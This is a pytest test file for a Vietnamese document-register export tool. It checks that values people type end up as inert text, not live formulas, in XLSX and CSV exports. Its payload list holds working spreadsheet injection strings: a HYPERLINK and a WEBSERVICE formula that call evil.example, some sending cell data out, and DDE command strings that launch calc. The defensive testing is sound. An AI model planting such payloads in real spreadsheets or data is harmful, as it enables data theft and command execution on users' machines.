"""No value a person typed becomes a live formula in a register export (issue 10 item 2)."""

from __future__ import annotations

import csv
import datetime as dt
import io
from pathlib import Path

import openpyxl
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from vanban.models import RegisterEntry
from vanban.services.register_export import export_register
from vanban.spreadsheet_cells import FORMULA_STARTS

PAYLOADS = (
    '=HYPERLINK("http://evil.example/?"&A3,"Bấm vào đây")',
    '=WEBSERVICE("http://evil.example")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
)

# Text openpyxl can store (XML 1.0 forbids most C0 controls; vanban turns those into spaces).
CELL_TEXT = st.text(
    alphabet=st.characters(
        exclude_categories=["Cs"],
        exclude_characters=[chr(c) for c in range(32) if chr(c) not in "\t\r\n"],
    ),
    max_size=40,
)


def _entry(signer: str, recipients: str, subject: str) -> RegisterEntry:
    day = dt.date(2025, 3, 4)
    return RegisterEntry(
        number_and_symbol="01/KH-HKH",
        issued_on=day,
        type_and_subject=subject,
        signer=signer,
        recipients=recipients,
        filed_at="VT",
        copies=None,
        sent_on=day,
        received_by="",
        note="",
        organization="HKH",
        book="van_ban_di",
        year=2025,
        number=1,
        dossier_id=1,
    )


def _check(values: tuple[str, str, str], folder: Path) -> None:
    xlsx, csv_path = folder / "so.xlsx", folder / "so.csv"
    entry = _entry(*values)
    export_register([entry], xlsx)
    export_register([entry], csv_path)
    sheet = openpyxl.load_workbook(xlsx).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
    row = [cell.value for cell in sheet[3]]
    # Text stays exactly what was typed (openpyxl reads an empty string back as None).
    assert [row[2] or "", row[3] or "", row[4] or ""] == [values[2], values[0], values[1]]
    for cell in sheet[3]:
        if isinstance(cell.value, str) and cell.value.startswith(FORMULA_STARTS):
            assert cell.quotePrefix
    text = csv_path.read_bytes().decode("utf-8-sig")
    fields = [field for record in csv.reader(io.StringIO(text, newline="")) for field in record]
    assert not [field for field in fields if field.startswith(FORMULA_STARTS)]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_known_payloads_are_inert(payload: str, tmp_path: Path) -> None:
    _check((payload, payload, payload), tmp_path)
    text = (tmp_path / "so.csv").read_bytes().decode("utf-8-sig")
    assert f"'{payload}".replace('"', '""') in text or f"'{payload}" in text


@settings(
    max_examples=40, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(values=st.tuples(CELL_TEXT, CELL_TEXT, CELL_TEXT))
def test_any_text_is_inert(values: tuple[str, str, str], tmp_path: Path) -> None:
    _check(values, tmp_path)
